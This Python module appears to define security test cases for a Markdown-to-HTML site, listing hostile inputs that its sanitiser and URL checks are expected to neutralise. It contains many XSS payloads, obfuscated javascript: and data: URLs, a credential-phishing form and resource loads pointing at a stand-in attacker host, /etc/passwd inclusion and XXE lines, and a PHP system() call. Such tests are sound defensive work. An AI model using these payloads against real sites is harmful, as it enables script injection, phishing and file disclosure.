"""Markdown and HTML that want to run scripts, load things or pose as parts of the page."""

from __future__ import annotations

from hostile.case import Case, Problem
from hostile.records import HEAD, SHAPES, injected, prose, refused_head, refused_prose

_CLEANED = "nh3 lässt nur harmlose Elemente und Attribute übrig; der Rest verschwindet oder steht als Text da."
_SHOWN = "Ein Feld ohne Markdown zeigt es als Text, eines mit Markdown bereinigt es."

_SCRIPTS = {
    "script": "<script>alert(1)</script>",
    "script-gross": "<SCRIPT SRC=//boese.example/x.js></SCRIPT>",
    "script-geteilt": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script-schraegstrich": "<script/x>alert(1)</script>",
    "script-in-absatz": "Text <script>alert(1)</script> weiter",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-ohne-anfuehrung": "<img/src=`x`onerror=alert(1)>",
    "svg-onload": "<svg onload=alert(1)>",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "svg-animate": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a></svg>",
    "svg-use": '<svg><use href="data:image/svg+xml;base64,PHN2Zz4="></svg>',
    "svg-foreign": "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "math": '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "details": "<details open ontoggle=alert(1)>x</details>",
    "body": "<body onload=alert(1)>",
    "input-autofocus": "<input autofocus onfocus=alert(1)>",
    "video": "<video><source onerror=alert(1)></video>",
    "iframe": "<iframe src=javascript:alert(1)></iframe>",
    "iframe-srcdoc": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "object": '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "embed": '<embed src="//boese.example/x.swf">',
    "applet": '<applet code="x.class"></applet>',
    "base": '<base href="https://boese.example/">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://boese.example/">',
    "meta-csp": '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    "link-style": '<link rel="stylesheet" href="//boese.example/x.css">',
    "link-import": '<link rel="import" href="//boese.example/">',
    "style": "<style>@import '//boese.example/'; body{display:none}</style>",
    "style-attribut": '<p style="background:url(//boese.example/)">x</p>',
    "form": '<form action="https://boese.example/"><input name=passwort type=password><button>Los</button></form>',
    "button-formaction": '<button formaction="javascript:alert(1)">x</button>',
    "textarea": "<textarea></textarea><script>alert(1)</script>",
    "title": "</title><script>alert(1)</script>",
    "main-ende": "</main></body></html><script>alert(1)</script>",
    "article-ende": "</div></section></article></main><footer>Ende</footer>",
    "kommentar": "<!-- --!><script>alert(1)</script> -->",
    "bedingter-kommentar": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "anweisung": "<?xml-stylesheet href='//boese.example/x.css'?><?php system('id'); ?>",
    "doctype": "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "template": "<template><script>alert(1)</script></template>",
    "slot": '<slot name=x><portal src="//boese.example"></portal></slot>',
    "dialog": "<dialog open>Ihre Sitzung ist abgelaufen</dialog>",
    "marquee": "<marquee onstart=alert(1)>x</marquee>",
    "isindex": "<isindex type=image src=1 onerror=alert(1)>",
    "plaintext": "<plaintext>alles danach",
    "xmp": "<xmp><script>alert(1)</script></xmp>",
    "unvollstaendig": '<img src="x" onerror="alert(1)"',
    "entitaeten": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "entitaeten-doppelt": "&amp;lt;script&amp;gt;",
    "null-in-tag": "<scr&#0;ipt>alert(1)</script>",
    "umgebung": "<x onclick=alert(1)>x</x><custom-element onmouseover=alert(1)>",
}
#: In records of every type, because each has templates of its own.
_EVERYWHERE = {
    "ausbruch": "\"'><img src=x onerror=alert(1)><script>alert(1)</script>",
    "zweimal-gelesen": "&lt;img src=x onerror=alert(1)&gt; &amp;lt;script&amp;gt;",
}
_POSES = {
    "id-des-inhalts": '<sup id="inhalt">x</sup><li id="suche">y</li>',
    "id-doppelt": '<sup id="fn:1">a</sup> <sup id="fn:1">b</sup>',
    "klasse-der-seite": '<div class="fuss hinweis kopf">Amtliche Mitteilung</div>',
    "rolle": '<div role="alert" aria-label="Wichtig" tabindex="5">x</div>',
    "knopf": '<a class="knopf" href="https://boese.example/">Jetzt anmelden</a>',
    "zeilen-vor": '<ol start="999999999999999999999"><li>x</li></ol>',
    "kopf-der-tabelle": '<table><tr><th scope="javascript:x" colspan="10000" onclick="x">a</th></tr></table>',
    "suche-faerben": '<div data-pagefind-body data-pagefind-weight="10">x</div><p data-pagefind-ignore>y</p>',
    "suche-filtern": '<span data-pagefind-filter="Art:Beschluss" data-pagefind-meta="title">x</span>',
    "prosa-im-text": '<div class="prosa">Vorberatung</div>',
    "ueberschrift": '<h2 id="quellen">Quellen</h2><h1>Titel</h1>',
    "neues-fenster": '<a href="https://boese.example/" target="_blank" rel="opener" ping="https://boese.example/p">x</a>',
    "herunterladen": '<a href="/daten/" download="virus.exe">x</a>',
    "attr-list": 'Absatz\n{: onclick="alert(1)" style="color:red" #inhalt .fuss }',
    "attr-list-link": '[x](https://a.example/){: onclick="alert(1)" target="_blank" }',
    "snippets": '--8<-- "/etc/passwd"\n\n;--8<-- "../../mkdocs.yml"\n\n--8<--\n/etc/passwd\n--8<--',
    "einbinden": '{!/etc/passwd!}\n\n{% include "/etc/passwd" %}\n\n.. include:: /etc/passwd',
    "inhaltsverzeichnis": "[TOC]\n\n# Eins\n\n## Zwei",
    "meta-im-text": "titel: Anders\ntemplate: x\n\nText",
    "ende-des-kopfs": "...\n---\ntitel: Anders",
    "zweiter-kopf": "---\ntitel: Anders\n---\n",
    "warnkasten": '!!! danger "Titel"\n    <script>alert(1)</script>',
    "abkuerzung": "*[Rat]: <script>alert(1)</script>\n\nRat",
    "fussnote": "Text[^x].\n\n[^x]: <script>alert(1)</script> <img src=x onerror=alert(1)>",
    "fussnote-boeser-name": 'Text[^"><script>alert(1)</script>].\n\n[^"><script>alert(1)</script>]: Note',
    "codeblock": '```html onclick="alert(1)"\n<script>alert(1)</script>\n```',
    "codeblock-klasse": '``` { .x onclick="alert(1)" style="x" }\n</code></pre><script>alert(1)</script>\n```',
    "tabelle": "| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
    "md-in-html": '<div markdown="1" onclick="alert(1)">\n**fett** [x](https://a.example/)\n</div>',
    "bild": '![x](https://boese.example/zaehlpixel.png "t")',
    "bild-verweis": "![x][b]\n\n[b]: https://boese.example/zaehlpixel.png",
    "platzhalter": "\u0002wzxhzdk:0\u0003 wzxhzdk:0 klzzwxh:0001".replace("\u0002", "").replace("\u0003", ""),
    "nummer-im-titel": '<a title="> B 01/0001 <img src=x onerror=alert(1)>" href="https://a.example/">x</a>',
    "verweis-mit-tag": '[[rat|<img src=x onerror=alert(1)>]] [[rat|"><script>alert(1)</script>]]',
    "verweis-im-link": "[x [[rat]]](https://a.example/)",
}
_SCHEMES = {
    "javascript": "javascript:alert(1)",
    "gross-klein": "JaVaScRiPt:alert(1)",
    "leerzeichen": " javascript:alert(1)",
    "entitaet": "&#106;avascript:alert(1)",
    "entitaet-ohne-ende": "&#0000106avascript:alert(1)",
    "hex": "&#x6A;avascript:alert(1)",
    "tabulator": "java&Tab;script:alert(1)",
    "zeilenende": "java&NewLine;script:alert(1)",
    "doppelpunkt": "javascript&colon;alert(1)",
    "steuerzeichen": "&#1;javascript:alert(1)",
    "weiches-zeichen": "java&shy;script:alert(1)",
    "prozent": "javascript%3Aalert(1)",
    "vbscript": "vbscript:msgbox(1)",
    "data": "data:text/html,<script>alert(1)</script>",
    "data-base64": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data-svg": "data:image/svg+xml,<svg onload=alert(1)>",
    "blob": "blob:https://portal.example/x",
    "datei": "file:///etc/passwd",
    "quelltext": "view-source:javascript:alert(1)",
    "ftp": "ftp://boese.example/",
    "intent": "intent://boese.example#Intent;end",
    "ms-office": "ms-word:ofe|u|https://boese.example/x.docx",
    "feed": "feed:javascript:alert(1)",
    "about": "about:blank",
    "sms": "sms:+491234",
    "verschachtelt": "jar:https://boese.example!/x",
    "anderer-rechner": "//boese.example/",
    "rueckstriche": "\\\\boese.example/",
    "gemischt": "/\\boese.example/",
    "drei-striche": "///boese.example/",
    "zeile-vor-rechner": "/&NewLine;/boese.example/",
}


def cases() -> list[Case]:
    found = prose("html", _SCRIPTS, _CLEANED)
    found += injected("html-im-feld", dict(list(_SCRIPTS.items())[::3]), _SHOWN)
    found += injected("jede-art", _EVERYWHERE, _SHOWN, each=len(SHAPES))
    found += prose(
        "verkleidung", _POSES, "Klassen, Ids, Rollen und Erweiterungen von Markdown wirken nicht aus Einträgen heraus."
    )
    found += refused_prose(
        "adressen",
        {
            f"a-{name}": (f'<a href="{address}">x</a>', "nirgends")
            for name, address in _SCHEMES.items()
            if '"' not in address
        },
    )
    found += refused_prose(
        "adressen",
        {f"r-{name}": (f"[x][b]\n\n[b]: <{address}>", "nirgends") for name, address in list(_SCHEMES.items())[::2]},
    )
    found += refused_prose(
        "adressen",
        {
            f"als Link: {name}": (f"[x]({address.strip()})", "nirgends")
            for name, address in _SCHEMES.items()
            if not address.startswith("&#") and " " not in address.strip()
        },
    )
    urls = {
        "javascript": "javascript:alert(1)",
        "data": "data:text/html,x",
        "ohne Schema": "boese.example",
        "anderer Rechner": "//boese.example/",
        "Leerzeichen": "https://a.example/a b",
        "Anfuehrungszeichen": 'https://a.example/"onclick="alert(1)',
        "Tag": "https://a.example/<script>",
        "leer": "https://",
        "Datei": "file:///etc/passwd",
        "Nutzer davor": "https://rathaus.example@boese.example/",
        "Nutzer und Passwort": "https://nutzer:passwort@boese.example/",
        "Rueckstrich": "https://rathaus.example\\@boese.example/",
        "nur Pfad": "https:///boese.example/",
    }
    found += refused_head(
        "adressen", {f"Anlage: {name}": (f"anlagen: [{{titel: a, url: '{url}'}}]", "url") for name, url in urls.items()}
    )
    found += [
        Case(
            family="adressen",
            name="Zeilenende in der Adresse einer Anlage",
            files={"beschluesse/papier.md": f'{HEAD}anlagen: [{{titel: a, url: "https://a.example/\\nx"}}]\n---\n'},
            expected=Problem("url"),
        )
    ]
    return found
